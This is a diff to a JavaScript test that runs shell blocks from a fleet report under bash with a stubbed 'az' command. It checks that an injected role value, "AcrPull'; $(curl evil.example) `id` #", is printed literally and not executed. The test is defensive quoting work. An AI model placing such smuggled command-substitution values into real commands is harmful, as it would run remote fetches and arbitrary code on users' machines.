@@ -262,7 +262,9 @@ describe('reports of a fleet', () => {
     const blocks = [...end.summary.matchAll(/^`{3,}sh\n([^]*?)^`{3,}$/gm)].map(([, commands = '']) => commands)
     expect(blocks.length).toBeGreaterThan(0)
     for (const commands of blocks) {
-      const shown = spawnSync('bash', ['-c', `az() { printf '%s\\n' "$@"; }\n${commands}`], { encoding: 'utf8' })
+      const shown = spawnSync('bash', ['--norc', '-c', `az() { printf '%s\\n' "$@"; }\n${commands}`], {
+        encoding: 'utf8',
+      })
       expect(shown.stderr).toBe('')
       if (commands.includes('role assignment create'))
         expect(shown.stdout).toContain("AcrPull'; $(curl evil.example) `id` #")
